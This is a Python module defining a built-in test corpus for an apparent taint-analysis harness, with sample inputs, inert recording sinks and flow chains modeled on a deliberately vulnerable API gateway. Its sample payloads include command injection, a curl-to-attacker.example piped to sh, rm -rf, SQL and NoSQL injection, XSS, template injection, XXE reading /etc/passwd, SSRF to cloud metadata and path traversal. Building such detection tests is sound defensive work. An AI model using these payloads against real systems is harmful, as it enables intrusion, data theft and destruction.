"""Built-in ground-truth corpus.

One inert source per ``SourceCategory``, one recording sink per
``SinkCategory`` (plus compound sinks for sequential operations), and chains
modeled on the flows of a deliberately vulnerable API gateway: direct
request-to-sink routes, stored second-order flows, fan-in, fan-out and
asynchronous boundaries.
"""

from __future__ import annotations

from taintchain.harness import TaintHarness
from taintchain.models.chains import (
    Chain,
    StoreRef,
    fanout,
    load,
    merge,
    relay,
    sink,
    source,
    store,
)
from taintchain.models.provenance import SourceCategory, TrustLevel
from taintchain.models.registry import SinkCategory, SinkDescriptor, SourceDescriptor
from taintchain.stubs import ContextFieldSource, RecordingSink

SAMPLE_PAYLOADS: dict[SourceCategory, object] = {
    SourceCategory.http_body: {
        "command": "tar",
        "target": "/srv/backups; id",
        "options": "-czf",
        "url": "http://169.254.169.254/latest/meta-data/",
        "template": "{{ config.items() }}",
        "to": "victim@example.com\r\nBcc: list@example.com",
        "subject": "Report\r\nX-Injected: 1",
        "store_path": "../../../etc/cron.d/refresh",
        "output_path": "../../public/index.html",
    },
    SourceCategory.http_query: "admin' OR '1'='1",
    SourceCategory.http_header: "Mozilla/5.0\r\nX-Forwarded-For: 127.0.0.1",
    SourceCategory.http_param: "../../../../etc/passwd",
    SourceCategory.cookie: "<img src=x onerror=alert(document.cookie)>",
    SourceCategory.session: "<svg onload=alert(1)>",
    SourceCategory.file: "report.sh; curl http://attacker.example/x | sh",
    SourceCategory.websocket: {"action": "lookup", "query": "1; DROP TABLE users"},
    SourceCategory.external_api: "{{7*7}}",
    SourceCategory.env: "/opt/app$(id)",
    SourceCategory.dns: "metadata.internal",
    SourceCategory.socket: "8.8.8.8 && cat /etc/shadow",
    SourceCategory.webhook: {
        "message": "<script>alert('hook')</script>",
        "repository": "demo",
        "callback_url": "http://10.0.0.5:8080/admin",
        "command": "rm -rf /tmp/cache",
    },
    SourceCategory.jwt_claim: {"sub": "admin", "role": {"$ne": None}},
    SourceCategory.saml_assertion: (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        "<Assertion>&x;</Assertion>"
    ),
}

# Environment values are configured by operators, not end users.
_SEMI_TRUSTED: frozenset[SourceCategory] = frozenset({SourceCategory.env})

SINK_IDS: dict[SinkCategory, str] = {
    SinkCategory.command: "command_exec",
    SinkCategory.sql: "sql_query",
    SinkCategory.nosql: "nosql_find",
    SinkCategory.path: "file_read",
    SinkCategory.template: "template_render",
    SinkCategory.xss: "html_response",
    SinkCategory.ssrf: "http_fetch",
    SinkCategory.xxe: "xml_parse",
    SinkCategory.log: "log_write",
    SinkCategory.email: "email_headers",
}
FILE_WRITE_EXECUTE = "file_write_execute"
FETCH_AND_STORE = "fetch_and_store"
RENDER_AND_SAVE = "render_and_save"
ARCHIVE_EXTRACT = "archive_extract"

# Sinks beyond one per category; most model two unsafe operations in sequence.
COMPOUND_SINKS: dict[str, tuple[frozenset[SinkCategory], str]] = {
    FILE_WRITE_EXECUTE: (
        frozenset({SinkCategory.path, SinkCategory.command}),
        "writes an uploaded file then executes it",
    ),
    FETCH_AND_STORE: (
        frozenset({SinkCategory.ssrf, SinkCategory.path}),
        "fetches a URL then writes the body to a caller-chosen path",
    ),
    RENDER_AND_SAVE: (
        frozenset({SinkCategory.template, SinkCategory.path}),
        "renders a template then saves the output to a caller-chosen path",
    ),
    ARCHIVE_EXTRACT: (
        frozenset({SinkCategory.path}),
        "extracts archive entries under a target directory (zip slip)",
    ),
}


def corpus_sources() -> list[SourceDescriptor]:
    return [
        SourceDescriptor(
            id=category.value,
            category=category,
            produce=ContextFieldSource(field=category.value, default=SAMPLE_PAYLOADS[category]),
            trust_level=(
                TrustLevel.semi_trusted if category in _SEMI_TRUSTED else TrustLevel.untrusted
            ),
            description=f"sample {category.value} input",
        )
        for category in SourceCategory
    ]


def corpus_sinks() -> tuple[list[SinkDescriptor], dict[str, RecordingSink]]:
    recorders: dict[str, RecordingSink] = {}
    descriptors: list[SinkDescriptor] = []
    for category, sink_id in SINK_IDS.items():
        recorders[sink_id] = RecordingSink(name=sink_id)
        descriptors.append(
            SinkDescriptor(
                id=sink_id,
                categories=frozenset({category}),
                consume=recorders[sink_id],
                description=f"records {category.value} payloads",
            )
        )
    for sink_id, (categories, description) in COMPOUND_SINKS.items():
        recorders[sink_id] = RecordingSink(name=sink_id)
        descriptors.append(
            SinkDescriptor(
                id=sink_id,
                categories=categories,
                consume=recorders[sink_id],
                description=description,
            )
        )
    return descriptors, recorders


def corpus_chains() -> list[Chain]:
    return [
        Chain(
            chain_id="api-system-execute",
            name="POST /api/system/execute",
            expected_category=SinkCategory.command,
            steps=[
                source("http_body"),
                relay("destructure", keys=["command", "target", "options"]),
                relay("build_command"),
                sink("command_exec"),
            ],
            tags=["direct", "http"],
        ),
        Chain(
            chain_id="api-users-search",
            name="POST /api/users/search",
            expected_category=SinkCategory.sql,
            steps=[
                source("http_query"),
                relay("concat", prefix="SELECT * FROM users WHERE name = '", suffix="'"),
                sink("sql_query"),
            ],
            tags=["direct", "http"],
        ),
        Chain(
            chain_id="api-proxy-fetch",
            name="POST /api/proxy/fetch",
            expected_category=SinkCategory.ssrf,
            steps=[
                source("http_body"),
                relay("destructure", keys=["url"]),
                relay("interpolate", template="{url}"),
                sink("http_fetch"),
            ],
            tags=["direct", "http"],
        ),
        Chain(
            chain_id="api-render",
            name="POST /api/render",
            expected_category=SinkCategory.template,
            steps=[
                source("http_body"),
                relay("destructure", keys=["template"]),
                relay("interpolate", template="<div>{template}</div>"),
                sink("template_render"),
            ],
            tags=["direct", "http"],
        ),
        Chain(
            chain_id="api-files-read",
            name="POST /api/files/read",
            expected_category=SinkCategory.path,
            steps=[
                source("http_param"),
                relay("concat", prefix="/var/app/uploads/"),
                sink("file_read"),
            ],
            tags=["direct", "http"],
        ),
        Chain(
            chain_id="websocket-json-to-sql",
            name="WebSocket message to SQL lookup",
            expected_category=SinkCategory.sql,
            steps=[
                source("websocket"),
                relay("json_round_trip"),
                relay("destructure", keys=["query"]),
                relay("interpolate", template="SELECT * FROM messages WHERE id = {query}"),
                sink("sql_query"),
            ],
            tags=["websocket", "serialization"],
        ),
        Chain(
            chain_id="session-stored-xss",
            name="Cookie stored in session, rendered later",
            expected_category=SinkCategory.xss,
            steps=[
                source("cookie"),
                store("session", "profile.bio"),
                load("session", "profile.bio"),
                relay("interpolate", template="<p>{value}</p>"),
                sink("html_response"),
            ],
            tags=["stored", "second-order", "session"],
        ),
        Chain(
            chain_id="process-stored-xss",
            name="Webhook message cached process-wide, rendered later",
            expected_category=SinkCategory.xss,
            steps=[
                source("webhook"),
                relay("destructure", keys=["message"]),
                store("process", "webhook.last_message"),
                load("process", "webhook.last_message"),
                relay("interpolate", template="<li>{message}</li>"),
                sink("html_response"),
            ],
            tags=["stored", "second-order", "process"],
        ),
        Chain(
            chain_id="header-query-merge-log",
            name="Header and query merged into an access log line",
            expected_category=SinkCategory.log,
            steps=[
                merge(["http_header", "http_query"], separator=" "),
                relay("concat", prefix="request: "),
                sink("log_write"),
            ],
            tags=["fan-in", "log"],
        ),
        Chain(
            chain_id="fanout-ssrf-command",
            name="Webhook URL fetched and passed to a shell",
            expected_category=SinkCategory.ssrf,
            steps=[
                source("http_body"),
                relay("destructure", keys=["url"]),
                relay("interpolate", template="{url}"),
                fanout("http_fetch", "command_exec"),
            ],
            tags=["fan-out"],
        ),
        Chain(
            chain_id="dns-deferred-ssrf",
            name="DNS answer used after a deferred callback",
            expected_category=SinkCategory.ssrf,
            steps=[
                source("dns"),
                relay("deferred"),
                relay("concat", prefix="http://", suffix="/health"),
                sink("http_fetch"),
            ],
            tags=["async", "boundary"],
        ),
        Chain(
            chain_id="socket-message-command",
            name="Socket message queued to a worker that runs ping",
            expected_category=SinkCategory.command,
            steps=[
                source("socket"),
                relay("message_passing"),
                relay("concat", prefix="ping -c 1 "),
                sink("command_exec"),
            ],
            tags=["async", "boundary"],
        ),
        Chain(
            chain_id="jwt-claim-nosql",
            name="JWT claims used as a NoSQL filter",
            expected_category=SinkCategory.nosql,
            steps=[
                source("jwt_claim"),
                relay("destructure", keys=["sub", "role"]),
                relay("json_round_trip"),
                sink("nosql_find"),
            ],
            tags=["auth"],
        ),
        Chain(
            chain_id="saml-xxe",
            name="SAML assertion parsed in a worker thread",
            expected_category=SinkCategory.xxe,
            steps=[
                source("saml_assertion"),
                relay("worker_thread"),
                sink("xml_parse"),
            ],
            tags=["auth", "boundary"],
        ),
        Chain(
            chain_id="email-header-injection",
            name="POST /api/email/send",
            expected_category=SinkCategory.email,
            steps=[
                source("http_body"),
                relay("destructure", keys=["to", "subject"]),
                relay("interpolate", template="To: {to}\nSubject: {subject}"),
                sink("email_headers"),
            ],
            tags=["direct", "http"],
        ),
        Chain(
            chain_id="external-api-base64-template",
            name="Base64 field from an upstream API rendered as a template",
            expected_category=SinkCategory.template,
            steps=[
                source("external_api"),
                relay("base64_round_trip"),
                relay("callback"),
                relay("interpolate", template="Hello {value}"),
                sink("template_render"),
            ],
            tags=["encoding", "boundary"],
        ),
        Chain(
            chain_id="upload-write-execute",
            name="Uploaded file name written then executed",
            expected_category=SinkCategory.path,
            steps=[
                source("file"),
                relay("scheduled", delay_s=0.0),
                relay("concat", prefix="/tmp/uploads/"),
                sink(FILE_WRITE_EXECUTE),
            ],
            tags=["upload", "boundary"],
        ),
        Chain(
            chain_id="env-template-command",
            name="Environment value formatted into a shell line",
            expected_category=SinkCategory.command,
            steps=[
                source("env"),
                relay("template", template="export APP_HOME={0} && ./run.sh"),
                sink("command_exec"),
            ],
            tags=["config"],
        ),
        Chain(
            chain_id="session-query-merge-sql",
            name="Stored session value merged with a query filter",
            expected_category=SinkCategory.sql,
            steps=[
                source("session"),
                store("session", "search.saved"),
                merge(
                    ["http_query"],
                    loads=[StoreRef(scope="session", key="search.saved")],
                    separator=" AND ",
                ),
                relay("concat", prefix="SELECT * FROM items WHERE "),
                sink("sql_query"),
            ],
            tags=["stored", "fan-in", "session"],
        ),
        Chain(
            chain_id="ssrf-fetch-then-store",
            name="Fetched URL body stored at a caller path",
            expected_category=SinkCategory.ssrf,
            steps=[
                source("http_body"),
                relay("destructure", keys=["url", "store_path"]),
                relay("json_round_trip"),
                sink(FETCH_AND_STORE),
            ],
            tags=["sequential", "multi-sink"],
        ),
        Chain(
            chain_id="template-render-and-save",
            name="Rendered template saved to a caller path",
            expected_category=SinkCategory.template,
            steps=[
                source("http_body"),
                relay("destructure", keys=["template", "output_path"]),
                sink(RENDER_AND_SAVE),
            ],
            tags=["sequential", "multi-sink"],
        ),
        Chain(
            chain_id="webhook-fetch-execute",
            name="POST /api/integration/webhook-execute",
            expected_category=SinkCategory.command,
            steps=[
                source("webhook"),
                relay("destructure", keys=["callback_url", "command"]),
                fanout("http_fetch"),
                relay("interpolate", template='process_data "{callback_url}" && {command}'),
                sink("command_exec"),
            ],
            tags=["sequential", "fan-out"],
        ),
        Chain(
            chain_id="archive-extract-zip-slip",
            name="POST /api/archive/extract",
            expected_category=SinkCategory.path,
            steps=[
                source("http_param"),
                relay("worker_thread"),
                relay("concat", prefix="/var/app/extracted/"),
                sink(ARCHIVE_EXTRACT),
            ],
            tags=["upload", "zip-slip"],
        ),
    ]


def install_corpus(harness: TaintHarness) -> dict[str, RecordingSink]:
    """Register the corpus on ``harness``; return the recording sinks by id."""
    for descriptor in corpus_sources():
        harness.register_source(descriptor)
    sink_descriptors, recorders = corpus_sinks()
    for descriptor in sink_descriptors:
        harness.register_sink(descriptor)
    for chain in corpus_chains():
        harness.add_chain(chain)
    return recorders


__all__ = [
    "ARCHIVE_EXTRACT",
    "COMPOUND_SINKS",
    "FETCH_AND_STORE",
    "FILE_WRITE_EXECUTE",
    "RENDER_AND_SAVE",
    "SAMPLE_PAYLOADS",
    "SINK_IDS",
    "corpus_chains",
    "corpus_sinks",
    "corpus_sources",
    "install_corpus",
]
